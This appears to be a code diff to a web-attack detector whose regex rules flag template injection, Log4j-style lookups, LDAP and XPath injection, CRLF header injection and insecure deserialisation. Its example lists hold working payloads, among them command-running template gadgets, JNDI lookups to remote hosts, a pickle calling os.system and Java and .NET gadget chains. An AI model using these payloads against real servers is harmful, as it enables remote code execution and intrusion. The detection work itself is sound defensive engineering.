@@ -21,28 +21,51 @@ XXE = "webattack.xxe"
 
 _S = Severity.HIGH  # the detector sets each finding's severity from the score
 
-# Openers of template and expression syntax: Jinja/Twig/Handlebars `{{`, `{%`; EL, Freemarker,
-# Mako, JS template literals `${`; JSF/Ruby/Spring `#{`, `*{`; Thymeleaf `[[`, `[(`; Razor `@(`;
-# ERB/JSP/ASP `<%`.
-_OPEN = r"(?:\$?\{\{|\{%|\$\{|#\{|\*\{|\[\[|\[\(|@\(|<%[=#-]?|\{=)"
-_CLOSE = r"(?:\}\}|%\}|\}|\]\]|\)\]|\)|%>)"
+# Openers and closers of template and expression syntax: Jinja/Twig/Handlebars `{{`, `{%`; EL,
+# FreeMarker, Mako, JS template literals `${`; JSF/Ruby/Spring `#{`, `*{`, `@{`; FreeMarker's
+# square syntax `[=`; Thymeleaf `[[`, `[(`; Razor `@(`; ERB/JSP/ASP `<%`.
+_OPEN = r"(?:\$?\{\{|\{%|\$\{|#\{|\*\{|@\{|\[\[|\[\(|\[=|@\(|<%[=#-]?|\{=)"
+_CLOSE = r"(?:\}\}|%\}|\}|\]\]|\)\]|\]|\)|%>)"
+# Openers that only template engines use: `{{`, `{%`, `${`, `#{`.
+_TEMPLATE_OPEN = r"(?:\$?\{\{|\{%|\$\{|#\{)"
 
 SSTI_ARITHMETIC_PROBE = Rule(
     id="ssti.arithmetic_probe",
     code=SSTI,
     # `{{7*7}}` and its kin: a tester's first question to every template engine is whether the
-    # page comes back with 49. Real templates print variables, not sums of two literals.
-    pattern=_OPEN + r"\s*-?\d+\s*[*+/-]\s*['\"]?-?\d+['\"]?\s*" + _CLOSE,
+    # page comes back with 49. The probe multiplies one-digit literals, or short ones written
+    # tight (`{{13*13}}`); real templates multiply variables or real quantities (`{{ 60 * 60 }}`),
+    # and `[[0-9]]` is a character range.
+    pattern=(
+        _OPEN + r"\s*(?:['\"]?\d['\"]?\s*\*\s*['\"]?\d['\"]?(?:\s*\*\s*['\"]?\d['\"]?)*"
+        r"|\d{1,4}\*['\"]?\d{1,4}['\"]?)\s*" + _CLOSE
+    ),
     severity=_S,
     score=0.75,
     message="arithmetic probe in template or expression syntax",
-    examples=("{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{7*'7'}}", "@(6+6)", "[[${7*7}]]"),
+    examples=(
+        "{{7*7}}",
+        "${7*7}",
+        "<%= 7*7 %>",
+        "#{7*7}",
+        "{{7*'7'}}",
+        "{{ '7'*7 }}",
+        "{{7*7*7}}",
+        "@(6*6)",
+        "[[${7*7}]]",
+        "[=3*3]",
+        "@{7*7}",
+        "${{11*11}}",
+        "name={{13*13}}&email=a@b.c",
+    ),
     counterexamples=(
         "{{ order.total }}",
         "Hello {{name}}, your order {{ order_id }} has shipped",
         "${HOME}/bin",
-        "open 9-5 (Mon-Fri)",
-        "{% if items|length > 1 %}items{% endif %}",
+        'timeout: "{{ 60 * 60 }}"',
+        'ttl = "${3600 * 24}"',
+        "Regex [[0-9]] character class",
+        "email me @(555-1234)",
         "price: ${12.50}",
     ),
 )
@@ -60,15 +83,19 @@ SSTI_OBJECT_WALK = Rule(
         r"|\b(?:lipsum|cycler|joiner|namespace|url_for|get_flashed_messages|request\.application"
         r"|config)\s*\.\s*(?:__init__\s*\.\s*)?__globals__"
         r"|\b_TemplateReference__context\b|__builtins__\s*\[\s*['\"]__import__"
-        r"|"
-        + _OPEN
-        + r"[^{}]{0,200}?"
+        # A dunder reached as an attribute inside template syntax (`{{request.__class__}}`);
+        # Python's own `def __init__` or `__init__.py` is not an attribute access.
+        + r"|"
+        + _TEMPLATE_OPEN
+        + r"[^{}]*\.\s*"
         + _DUNDER
-        # The same walk without underscores (Jinjava, Pebble) and Jinja's `attr` filter, which
-        # reaches an attribute whose name is built from pieces so no filter sees it written.
-        + r"|\.class\s*\.\s*(?:mro|base|bases|superclass)\b|\.subclasses\s*\(\s*\)"
-        r"|\|\s*attr\s*\(\s*(?:['\"]|\[|request\b)"
-        r"|" + _OPEN + r"\s*for\s+\w+(?:\s*,\s*\w+)?\s+in\s+(?:config|request|self|settings)\b"
+        # The same walk without underscores (Jinjava, Pebble), and Jinja's `attr` filter given
+        # a name built from pieces so that no filter sees it written.
+        + r"|\.class\s*\.\s*(?:mro\s*\(|bases?\s*\.\s*subclasses\b)"
+        r"|\|\s*attr\s*\(\s*(?:\[|request\b|['\"](?:_|\\x5f))"
+        r"|['\"]__\w*['\"]\s*\+\s*['\"]\w*__['\"]"
+        r"|" + _TEMPLATE_OPEN + r"\s*for\s+\w+(?:\s*,\s*\w+)?\s+in\s+(?:config|request\.environ)"
+        r"\s*\.\s*(?:items|iteritems)\s*\("
     ),
     severity=_S,
     score=0.85,
@@ -81,7 +108,10 @@ SSTI_OBJECT_WALK = Rule(
         "().__class__.__bases__[0].__subclasses__()[59]",
         "{{request.__class__}}",
         '{{request|attr(["__","class","__"]|join)}}',
+        "{{request|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
         "{{ [].class.base.subclasses() }}",
+        "{{''.class.mro()[1]}}",
+        "{{request['__cl'+'ass__']}}",
         "{% for k, v in config.items() %}{{ k }}{% endfor %}",
     ),
     counterexamples=(
@@ -92,7 +122,13 @@ SSTI_OBJECT_WALK = Rule(
         "registry = {cls.__name__: cls for cls in Base.__subclasses__()}",
         "{% for item in order.items %}{{ item.name }}{% endfor %}",
         "{{ product|attribute_list }}",
+        "{{ user|attr('email') }}",
         "String name = obj.getClass().getName();",
+        'def __repr__(self):    return "<%s id=%r>" % (self.__class__.__name__, self.id)',
+        '{"files": [["src/__init__.py", 120], ["src/app.py", 300]]}',
+        "def parent_name; self.class.superclass.name; end",
+        "Animal.subclasses()",
+        "{% for social in config.extra.social %}{{ social.name }}{% endfor %}",
     ),
 )
 
@@ -101,29 +137,38 @@ SSTI_ENGINE_GADGET = Rule(
     code=SSTI,
     # Known ways out of each engine into the host: Twig's filter callbacks, FreeMarker's
     # Execute class, Velocity's reflection, OGNL's member access, SpEL's type operator, Smarty's
-    # PHP tags, Mako's module imports, Node's `node-serialize` function marker.
+    # PHP tags, Mako's module imports, EJS reaching Node's process, Razor starting a process,
+    # Groovy's method closures, Node's `node-serialize` function marker.
     pattern=(
         r"_self\s*\.\s*env\s*\.\s*(?:registerUndefinedFilterCallback|getFilter|setCache)"
         r"|\|\s*(?:filter|map|reduce|sort)\s*\(\s*['\"](?:system|exec|passthru|shell_exec|popen"
-        r"|proc_open)['\"]"
+        r"|proc_open|call_user_func)['\"]"
         r"|freemarker\.template\.utility\.(?:Execute|ObjectConstructor|JythonRuntime)"
-        r"|\?\s*new\s*\(\s*\)\s*(?:\(|>|$)|\?api\.(?:getClass|class)"
-        r"|\.getClass\s*\(\s*\)\s*\.\s*forName\s*\("
+        r"|\?\s*new\s*\(\s*\)\s*(?:\(|>|\]|$)|\?api\.(?:getClass|class)"
+        r"|\.getClass\s*\(\s*\)\s*\.\s*forName\s*\(|\bforName\s*\(\s*['\"]java\.lang\.(?:Runtime"
+        r"|ProcessBuilder)"
         r"|#_memberAccess|@java\.lang\.Runtime@|#context\s*\[\s*['\"]|DEFAULT_MEMBER_ACCESS"
         r"|ognl\.OgnlContext|%\{\s*\(\s*#"
-        r"|\bT\s*\(\s*java\.lang\.(?:Runtime|System|ProcessBuilder|Class|Thread)\s*\)"
-        r"|\bnew\s+java\.(?:lang\.ProcessBuilder|util\.Scanner|io\.File(?:Reader|InputStream)?)\b"
-        r"|\{(?:php|/php)\}|\{\s*(?:system|exec|passthru|shell_exec)\s*\(|Smarty_Internal_Write_File"
-        r"|\$smarty\.(?:version|template_object)"
-        r"|<%\s*(?:import\s+os|!\s*import)|\bself\.module\.cache\.util\.os\b"
+        r"|\bT\s*\(\s*java\.lang\.(?:Runtime|ProcessBuilder)\s*\)"
+        r"|\bT\s*\(\s*java\.lang\.System\s*\)\s*\.\s*getenv"
+        r"|\bnew\s+java\.lang\.ProcessBuilder\b|\bMethodClosure\s*\("
+        r"|\$\{\s*['\"][^'\"]*['\"]\s*\.\s*execute\s*\(\s*\)"
+        r"|(?:\$?\{\{|\{%|\$\{|#\{)[^{}]*\bgetClassLoader\s*\("
+        r"|\{(?:php|/php)\}|\{\s*(?:system|exec|passthru|shell_exec)\s*\(\s*['\"][^'\"]*['\"]\s*\)"
+        r"\s*\}|Smarty_Internal_Write_File|\$smarty\.(?:version|template_object)"
+        r"|<%\s*import\s+os\b|\bself\.module\.(?:cache|runtime|filters)\b"
+        r"|\bprocess\.mainModule\b|<%[=-]?[^%]*\bchild_process\b"
+        r"|@\(\s*System\.Diagnostics\.Process"
         r"|_\$\$ND_FUNC\$\$_"
-        # A template asked to print the engine's own objects whole: its settings, the request,
-        # the template context (Jinja, Django, Twig).
-        r"|" + _OPEN + r"\s*(?:config|self|_self|_context|app|request|settings(?:\.SECRET_KEY)?"
-        r"|request\.environ|dump\s*\(\s*(?:app|_context)?\s*\))"
-        r"(?:\s*\.\s*items\s*\(\s*\))?\s*"
-        + _CLOSE
-        + r"|\bapp\.request\.(?:server|headers|query\.filter)\b"
+        # The detection polyglot that breaks most engines at once.
+        r"|\$\{\{\s*<%\s*\[%"
+        # A template that is nothing but the engine's own objects printed whole: its settings,
+        # the request, the template context (Jinja, Django, Twig). Inside a sentence, `{{app}}`
+        # is wiki markup for a name.
+        r"|^\s*(?:\{\{|\{%)\s*(?:config|self|_self|_context|request|request\.environ"
+        r"|dump\s*\(\s*(?:app|_context)\s*\))\s*(?:\}\}|%\})\s*$"
+        r"|\{\{\s*config\s*(?:\.\s*items\s*\(\s*\)|\|\s*pprint|\[\s*['\"]SECRET_KEY)"
+        r"|\{\{[^{}]*\bSECRET_KEY\b|\bapp\.request\.(?:server\.all|query\.filter\s*\()"
     ),
     severity=_S,
     score=0.8,
@@ -131,9 +176,11 @@ SSTI_ENGINE_GADGET = Rule(
     examples=(
         '{{_self.env.registerUndefinedFilterCallback("exec")}}',
         "{{['id']|filter('system')}}",
+        "{{ {'id':'shell_exec'}|map('call_user_func')|join }}",
         '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
         "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
         "${T(java.lang.Runtime).getRuntime().exec('id')}",
+        "${''.class.forName('java.lang.Runtime')}",
         "{system('ls')}",
         "{{config.items()}}",
         "{{ self }}",
@@ -142,6 +189,11 @@ SSTI_ENGINE_GADGET = Rule(
         "{{app.request.server.all|join(',')}}",
         "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
         "<% import os %>${os.popen('id').read()}",
+        "<%= global.process.mainModule.require('child_process').execSync('id') %>",
+        '@(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))',
+        '${"whoami".execute()}',
+        "${class.getClassLoader()}",
+        "${{<%[%'\"}}%\\.",
     ),
     counterexamples=(
         "{{ items|map(attribute='name')|join(', ') }}",
@@ -150,18 +202,28 @@ SSTI_ENGINE_GADGET = Rule(
         "config.yaml was updated",
         "{{ self_service_url }}",
         "Set the {config} placeholder in settings",
+        'dest: "/opt/{{ app }}/current"',
+        "Jira: please restart {{app}} and clear {{settings}} cache",
+        "Open the {{config}} panel",
+        "{{ app.request.headers.get('referer') }}",
+        'int main() {system("pause"); return 0;}',
+        "Scanner sc = new java.util.Scanner(System.in);",
+        '@Value("#{T(java.lang.System).currentTimeMillis()}")',
+        "<%! import json %>",
+        "const { exec } = require('child_process');",
     ),
 )
 
 SSTI_NESTED_LOOKUP = Rule(
     id="ssti.nested_lookup",
     code=SSTI,
-    # Log4j-style lookups nested to spell a protocol past a filter: `${${lower:j}ndi:...}`,
-    # `${${::-j}${::-n}di:...}`, `${${env:X:-j}ndi...}`.
+    # Log4j-style lookups that spell a protocol one character at a time past a filter:
+    # `${${lower:j}ndi:...}`, `${${::-j}${::-n}di:...}`, `${j${x:-n}di:`, `${${base64:am5kaQ==}:`.
+    # Configuration nests lookups too (`${env:LOG_DIR:-${sys:java.io.tmpdir}}`), but for a whole
+    # default value, never for a single letter.
     pattern=(
-        r"(?i)\$\{[^{}]{0,40}\$\{\s*(?:lower|upper|::-|env:|sys:|date:|main:|bundle:|k8s:"
-        r"|docker:|java:|web:|jndi:|ctx:|spring:)"
-        r"|(?i)\$\{\s*(?:jndi|ldap|rmi|dns|iiop|corba|nds|nis)\s*:"
+        r"\$\{[a-zA-Z]{0,3}\$\{[^{}]*:-?[a-zA-Z]\s*\}|\$\{\s*\$\{\s*base64:"
+        r"|(?i)\$\{\s*jndi\s*:"
     ),
     severity=_S,
     score=0.85,
@@ -171,11 +233,16 @@ SSTI_NESTED_LOOKUP = Rule(
         "${${lower:j}ndi:ldap://x.example/a}",
         "${jndi:ldap://x.example/a}",
         "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://x/}",
+        "${${x:-j}${x:-n}${x:-d}${x:-i}:ldap://a.example/b}",
+        "${j${upper:n}di:dns://x.example}",
     ),
     counterexamples=(
         "${HOME}/.config",
         "export PATH=${PATH}:${HOME}/bin",
         "the price is ${amount}",
+        'fileName="${env:LOG_DIR:-${sys:java.io.tmpdir}}/app.log"',
+        "LDAP_HOST=${LDAP:-ldap.example.com}",
+        "nameserver ${DNS:-1.1.1.1}",
     ),
 )
 
@@ -191,22 +258,21 @@ SSTI_INCLUDE = Rule(
     counterexamples=("what is ESI caching?", "<esi></esi>", "esi:include is a tag name"),
 )
 
-# Where a pasted value starts: the whole field, a query parameter's value, a quoted string or a
-# word. A filter written whole starts with "(" instead, and its own presence tests (`(mail=*)`)
-# follow an "=" inside it.
-_VALUE_START = r"(?:^|[?&][\w.-]+=|[\"'\s])"
+# Where a pasted value starts: the whole field, a query parameter's value or a quoted string. A
+# filter written whole starts with "(" instead, and its own presence tests (`(mail=*)`) and
+# multi-word values (`(cn=John Smith)`) sit inside it.
+_VALUE_START = r"(?:^|[?&][\w.-]+=|[\"'])"
 
 LDAP_FILTER_BREAK = Rule(
     id="ldap.filter_break",
     code=LDAP,
     # A value that closes the filter it is pasted into and opens another: `*)(uid=*))(|(uid=*`,
-    # `admin)(&)`, `*)(|(objectclass=*))`. Ordinary text rarely closes a parenthesis and opens a
-    # filter with an attribute comparison or a bare operator right after it.
+    # `admin)(&)`, `admin)(!(&(1=0`, `*)(|(objectclass=*))`, `jdoe)(userPassword=a*`.
     pattern=(
         r"(?i)" + _VALUE_START + r"[\w@.-]*\*\s*\)+\s*\(+\s*[|&!]?\s*\(*\s*[a-z][\w-]*\s*[~<>]?="
-        r"|" + _VALUE_START + r"[\w@.*-]+\)+\s*\(\s*[|&]\s*(?:[()]|$)"
+        r"|" + _VALUE_START + r"[\w@.*-]+\)+\s*\(\s*[|&!]\s*(?:[()]|$)"
         r"|" + _VALUE_START + r"[\w@.-]*\*\s*\(\s*(?:[|&]\s*\(|\)\s*[|&])"
-        r"|" + _VALUE_START + r"[\w@.-]+\)+\s*\(\s*[a-z][\w-]*\s*[~<>]?=\s*\*"
+        r"|" + _VALUE_START + r"[\w@.-]+\)+\s*\(\s*[a-z][\w-]*\s*[~<>]?=[^()\s]*\*"
     ),
     severity=_S,
     score=0.75,
@@ -216,10 +282,13 @@ LDAP_FILTER_BREAK = Rule(
         "*)(|(objectclass=*))",
         "admin*)((|userpassword=*)",
         "admin)(&)",
+        "admin)(!(&(1=0",
         "jdoe)(cn=*",
+        "jdoe)(userPassword=a*",
         "*)(&",
         "*(|(mail=*))",
         "*()|&'",
+        '{"user": "*)(uid=*))(|(uid=*"}',
     ),
     counterexamples=(
         "(&(objectClass=person)(mail=*))",
@@ -229,6 +298,11 @@ LDAP_FILTER_BREAK = Rule(
         "rated 5*) (best) for speed",
         "(&(mail=*)(cn=jdoe))",
         "(&(a=1)(|(b=2)(!(c=3))))",
+        "(&(objectClass=person)(cn=John Smith)(mail=*))",
+        "(&(cn=Jane Doe)(|(ou=Sales)(ou=Support)))",
+        "(&(cn=Jane Do*)(objectClass=user))",
+        '{"filter": "(&(objectClass=user)(department=Customer Support)(manager=*))"}',
+        "foo((const char*)(p = buf));",
     ),
 )
 
@@ -236,40 +310,43 @@ LDAP_NULL_TERMINATED = Rule(
     id="ldap.null_terminated",
     code=LDAP,
     # `*))%00`: the rest of the server's filter is cut off by a NUL byte.
-    pattern=r"[\w*=]\)+\s*(?:%00|\x00|\\00|\\x00)",
+    pattern=r"[\w*=]\)+\s*(?:%00|\x00)|[*=]\)+\s*\\x?00",
     severity=_S,
     score=0.7,
     message="filter closed and truncated with a NUL byte",
     examples=("*))%00", "admin)%00", "*)\x00", ")(cn=))\\x00"),
-    counterexamples=("(see page 100)", "call (0)800 100", "%00 is a NUL"),
+    counterexamples=("(see page 100)", "call (0)800 100", "%00 is a NUL", "b'\\x01abc)\\x00\\x00'"),
 )
+
+# A single quote that closes the string the value was pasted into: the value (or a JSON string)
+# starts, a few characters, the quote. A selector written whole opens its own quotes.
+_QUOTE_BREAK = r"(?:^|[=\"])[^'\"\s]*'\s*"
 
 XPATH_NODE_PROBE = Rule(
     id="xpath.node_probe",
     code=XPATH,
-    # Blind XPath extraction reads the document's own node names and lengths character by
-    # character: `substring(name(/*[1]),1,1)`, `string-length(name(parent::*))`,
-    # `count(/child::node())`.
+    # An XPath query broken out of its quotes, then blind extraction reading the document's own
+    # node names and lengths one character at a time: `' or count(/child::node())=1 or ''='`,
+    # `substring(name(/*[1]),1,1)='a'`. Selectors written whole (`count(//book)`) pass.
     pattern=(
-        r"(?i)\b(?:name|local-name|string-length|substring|count|string)\s*\(\s*"
-        r"(?:name\s*\(\s*)?(?:/(?:\*|/|[a-z][\w:-]*\s*[\[/)])|\.\./|parent::|child::|ancestor::"
-        r"|following-sibling::|self::)"
-        r"|(?i)\bchild::node\s*\(\s*\)|(?i)'\s*or\s+(?:name|count|string-length)\s*\("
-        r"|(?i)['\"]\s*\]\s*\|\s*//\*|(?i)['\"]\s*or\s+//"
-        # A condition joined to the query with an XPath function, and `doc()` fetching a share.
-        r"|(?i)\b(?:and|or)\s+(?:string-length|starts-with|codepoints-to-string|local-name)\s*\("
-        r"|(?i)\bdoc\s*\(\s*['\"](?://|\\\\|https?:)"
+        r"(?i)" + _QUOTE_BREAK + r"\)*\s*(?:or|and)\s+(?:not\s*\(\s*)?(?:name|local-name|count"
+        r"|string-length|substring|starts-with|contains|string|position|last)\s*\("
+        r"|(?i)\b(?:substring|string-length)\s*\(\s*(?:local-)?name\s*\(\s*(?:/|parent::|\.\./)"
+        r"|(?i)\bchild::node\s*\(\s*\)|(?i)" + _QUOTE_BREAK + r"\)?\s*\]\s*\|\s*//"
+        r"|(?i)" + _QUOTE_BREAK + r"or\s+//[\w*]|(?i)\bdoc\s*\(\s*['\"](?://|\\\\)"
     ),
     severity=_S,
     score=0.75,
-    message="XPath node probe or query break",
+    message="XPath query broken out of its quotes, or a blind node probe",
     examples=(
         "' or count(/child::node())=1 or ''='",
         "substring(name(/*[1]),1,1)='a'",
         "string-length(name(parent::*))",
         "x' or name()='username' or 'x'='y",
         "']|//*|//*['",
-        "and string-length(account)=5",
+        "' and count(/*)=1 and '1'='1",
+        "search=')] | //user/*[contains(*,'",
+        "search=Har') and starts-with(../password,'c",
         "x and doc('//203.0.113.5/share')",
     ),
     counterexamples=(
@@ -277,43 +354,70 @@ XPATH_NODE_PROBE = Rule(
         "the name (/ˈneɪm/) is pronounced",
         "substring(text, 1, 3)",
         "xpath //div[@class='price']",
-        "check the name and starts-with rule in the docs",
+        "count(//book)",
+        "string(/catalog/title)",
+        "//a[contains(@href,'login') and starts-with(@class,'btn')]",
+        '<xsl:if test="@id and string-length(name) > 0">',
+        "The path string (/var/log/app) is wrong",
+        'Use "https://" or //cdn.example.com for the script',
         "the doc (see //share/notes) is ready",
     ),
 )
 
-# Encoded line breaks, and the pairs among them that HTTP itself uses between headers (CR LF).
-_ENCODED_BREAK = (
-    r"(?:%0d%0a|%0d|%0a|%e5%98%8a%e5%98%8d|%e5%98%8a|%e5%98%8d|%u000d|%u000a|%250d|%250a"
-    r"|%5cr%5cn|\\r\\n|%c4%8a|%c4%8d)"
+# Line breaks as a URL carries them, and the UTF-8 characters some servers cut down to CR or LF.
+_URL_BREAK = (
+    r"(?:%0d|%0a|%e5%98%8a|%e5%98%8d|%u000d|%u000a|%250d|%250a|%25250a|%25%30[ad]|%5cr|%5cn"
+    r"|%c4%8a|%c4%8d|[\x{560A}\x{560D}])"
 )
-_CRLF = r"(?:%0d%0a|%e5%98%8a%e5%98%8d|%u000d%u000a|%250d%250a|%5cr%5cn|\\r\\n)"
+_CRLF = r"(?:%0d%0a|%e5%98%8a%e5%98%8d|%u000d%u000a|%250d%250a|%5cr%5cn|\x{560D}\x{560A})"
 _SPACE = r"(?:%20|%09|\+|\s)*"
+# A value that starts the break: the whole field, a parameter's value, a path: not a sentence
+# with its words joined by `+` (a form body in which a customer typed several lines).
+_BREAK_START = r"(?:^|[=/?&#]|%2f|%3f|%23)(?:[^\s+&=%]|%[0-9a-f]{2})*?"
+
+# Header names that only headers use, and those that are also words ("Location: Berlin" on a
+# typed line): the second kind needs the CR LF pair HTTP uses, or a break right at the start.
+_HEADER_NAME = (
+    r"(?:set-cookie|content-(?:type|length|security-policy|disposition)|transfer-encoding"
+    r"|access-control-allow-[a-z]+|cache-control|www-authenticate|x-forwarded-[a-z]+|x-real-ip"
+    r"|x-original-url|x-xss-protection|x-frame-options|http/1\.[01])\s*(?::|%3a|\s\d{3})"
+)
+_WORD_HEADER_NAME = r"(?:location|host|refresh|connection|link|server|x-[a-z-]+|cc)\s*(?::|%3a)"
+_WORD_BREAK = "(?:" + _BREAK_START + _CRLF + r"|(?:^|/|%2f|\?|%3f)" + _URL_BREAK + ")+"
+_HEADER_BREAKS = (
+    # a header after any break in a value or a path;
+    _BREAK_START + _URL_BREAK + "+" + _SPACE + _HEADER_NAME,
+    # a word-like header after CR LF, or after a break that opens the value or a path segment;
+    _WORD_BREAK + _SPACE + _WORD_HEADER_NAME,
+    # two breaks and a body of the attacker's choosing;
+    _BREAK_START + "(?:%0d%0a|%250d%250a){2}" + _SPACE + "(?:<|%3c)",
+    # wherever it is, a cookie set or a blind copy after a break is never a typed line;
+    _URL_BREAK + "+" + _SPACE + "(?:set-cookie|bcc)\\s*(?::|%3a)",
+    # a JSON string (a mail tool's subject) whose escaped line break adds a blind copy.
+    r"\\r\\n\s*bcc\s*:\s*[^\s\"@]+@",
+)
 
 HEADER_CRLF = Rule(
     id="header.crlf",
     code=HEADER_INJECTION,
     # An encoded line break followed by a header name splits the response or adds a header
-    # (CWE-113): `%0d%0aSet-Cookie:`, `%E5%98%8A%E5%98%8DLocation:` (UTF-8 that some servers
-    # truncate to CR LF), or two breaks and a body of the attacker's choosing.
-    pattern=(
-        r"(?i)" + _ENCODED_BREAK + r"+" + _SPACE + r"(?:set-cookie|content-(?:type|length"
-        r"|security-policy|disposition)|transfer-encoding|x-[a-z-]+|access-control-allow-[a-z]+"
-        r"|cache-control|http/1\.[01])\s*(?::|%3a|\s\d{3})"
-        # Header names that are also words ("Location: Paris") need the CR LF pair itself.
-        r"|(?i)" + _CRLF + r"+" + _SPACE + r"(?:location|host|refresh|connection)\s*(?::|%3a)"
-        r"|(?i)\\n" + _SPACE + r"set-cookie\s*(?::|%3a)"
-        r"|(?i)(?:%0d%0a|%250d%250a){2}" + _SPACE + r"(?:<|%3c)"
-    ),
+    # (CWE-113), or adds a recipient to a mail (CWE-93): `/%0d%0aSet-Cookie:`,
+    # `?lang=%E5%98%8A%E5%98%8DLocation:`, `hi%0d%0aBcc:`, or two breaks and a body.
+    pattern="(?i)" + "|".join(_HEADER_BREAKS),
     severity=_S,
     score=0.8,
-    message="encoded line break followed by an HTTP header (CRLF injection)",
+    message="encoded line break followed by an HTTP or mail header (CRLF injection)",
     examples=(
         "%0d%0aSet-Cookie:%20session=evil",
         "%E5%98%8A%E5%98%8DSet-Cookie:%20x=y",
         "/redirect?url=%0d%0aLocation:%20http://x.example",
+        "/%0ALocation:%20http://x.example",
         "abc%0d%0a%0d%0a<script>alert(1)</script>",
-        "en%0AX-Forwarded-Host:%20x.example",
+        "en%0d%0aX-Forwarded-Host:%20x.example",
+        "/%2e%2e%2f%0d%0aSet-Cookie:crlf=injection",
+        "Subject: hi%0d%0aBcc: victim@example.com",
+        "/嘍嘊Set-Cookie:x=1",
+        '{"subject": "Invoice\\r\\nBcc: all@example.com"}',
     ),
     counterexamples=(
         "line one%0Aline two",
@@ -322,6 +426,11 @@ HEADER_CRLF = Rule(
         "a\\nb\\nc",
         "name=Ann%0ALocation%3A+Berlin",
         '{"body": "Hi\\nLocation: Berlin\\nThanks"}',
+        '{"body": "Response headers:\\nSet-Cookie: session=abc; HttpOnly"}',
+        '{"raw": "From: a@example.com\\r\\nTo: b@example.com\\r\\nContent-Type: text/html"}',
+        "body=Hello+Anna%2C%0D%0A%0D%0A%3Cp%3EThanks+for+your+order%3C%2Fp%3E",
+        "comment=The+API+returns%0D%0AContent-Type%3A+text%2Fplain+instead+of+json",
+        "notes=Plot%0Ax-axis: time%0Ay-axis: value",
     ),
 )
 
@@ -329,18 +438,27 @@ OBJECT_SERIALISED = Rule(
     id="object.serialised",
     code=OBJECT_INJECTION,
     # Serialised objects that run code while they are read back: Java streams (`aced0005`,
-    # base64 `rO0AB`), PHP objects (`O:8:"stdClass":...`), YAML tags that construct classes,
-    # pickles that import `os.system`, and .NET gadgets named by type.
+    # base64 `rO0AB`), .NET BinaryFormatter (`AAEAAAD/////`), PHP objects (`O:8:"stdClass":`),
+    # YAML tags that construct classes, pickles that import `os.system`, Fastjson and Jackson
+    # type names, and .NET gadgets named by type. Ruby's YAML tags are ordinary in gem and
+    # Rails data; only the classes of the known gadget chains count.
     pattern=(
-        r"\brO0AB[A-Za-z0-9+/]{8,}|\b(?i:aced0005)[0-9a-fA-F]{4,}"
-        r"|\b[OC]:\d+:\"[A-Za-z_\\][\w\\]*\":\d+:\{"
-        r"|!!python/(?:object|name|module)(?:/apply|/new)?:"
-        r"|!!(?:javax?|com|org|sun)\.[\w.$]+|!ruby/(?:object|hash|struct):"
+        r"\brO0AB[A-Za-z0-9+/]{8,}|\b(?i:aced0005)[0-9a-fA-F]{4,}|(?i:\bac\s+ed\s+00\s+05\s)"
+        r"|\bAAEAAAD/////"
+        r"|\b[OC]:\+?\d+:\"[A-Za-z_\\][\w\\]*\":\d+:\{"
+        r"|!!python/(?:object|name|module)(?:/apply|/new)?:|!<tag:yaml\.org,2002:python/"
+        r"|!!(?:javax?|com|org|sun)\.[\w.$]+"
+        r"|!ruby/(?:object|hash|struct):(?:Gem::(?:Installer|SpecFetcher|Package::TarReader"
+        r"|DependencyList|RequestSet)|Net::(?:WriteAdapter|BufferedIO)|Kernel\b)"
         r"|\bc(?:os|posix|subprocess|builtins|__builtin__|nt)\n(?:system|popen|check_output|call|exec"
         r"|eval|getattr)\n"
-        r"|System\.Windows\.Data\.ObjectDataProvider|System\.Diagnostics\.Process(?:StartInfo)?\b"
-        r"[^\n]{0,80}(?:\$type|__type)|(?:\$type|__type)\"?\s*:\s*\"System\.(?:Windows\.Data"
-        r"|Diagnostics\.Process|Management\.Automation|Configuration\.Install)"
+        r"|\"@type\"\s*:\s*\"(?:com\.sun\.|org\.apache\.|com\.mchange\.|org\.springframework\."
+        r"|java\.|javax\.|com\.zaxxer\.|org\.hibernate\.)"
+        r"|\[\s*\"com\.sun\.rowset\.JdbcRowSetImpl\""
+        r"|\"@class\"\s*:\s*\"[\w.$]*(?:InvokerTransformer|TemplatesImpl|JdbcRowSetImpl)"
+        r"|System\.Windows\.Data\.ObjectDataProvider|\bExpandedWrapper\b|\bXamlReader\b"
+        r"|(?:\$type|__type)\"?\s*:\s*\"System\.(?:Windows\.Data|Diagnostics\.Process"
+        r"|Management\.Automation|Configuration\.Install)"
         r"|\bTypeConfuseDelegate\b|\bTextFormattingRunProperties\b"
     ),
     severity=_S,
@@ -348,11 +466,19 @@ OBJECT_SERIALISED = Rule(
     message="serialised object that can run code when read (insecure deserialisation)",
     examples=(
         'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}',
+        'O:+8:"stdClass":0:{}',
         "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC",
         "aced00057372001b636f6d2e6578616d706c65",
+        "AC ED 00 05 73 72 00 11",
+        "AAEAAAD/////AQAAAAAAAAAMAgAAAF",
         '!!python/object/apply:os.system ["id"]',
-        '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]',
+        '!<tag:yaml.org,2002:python/object/apply:os.system> ["id"]',
+        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
+        ' ["http://x/"]]]]',
+        "--- !ruby/object:Gem::Installer\ni: x",
         "cos\nsystem\n(S'id'\ntR.",
+        '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://x/a"}',
+        '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"rmi://x/a"}]',
         '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
     ),
     counterexamples=(
@@ -362,6 +488,10 @@ OBJECT_SERIALISED = Rule(
         "cos(x) and sin(x)",
         '{"$type":"MyApp.Models.Dog, MyApp"}',
         "O:8 is the seat number",
+        "--- !ruby/object:Gem::Specification\nname: rake",
+        "version: !ruby/object:Gem::Requirement",
+        "params: !ruby/hash:ActiveSupport::HashWithIndifferentAccess",
+        '{"@type":"Person","name":"Ann"}',
     ),
 )
 
@@ -369,11 +499,16 @@ OBJECT_PROTOTYPE_POLLUTION = Rule(
     id="object.prototype_pollution",
     code=OBJECT_INJECTION,
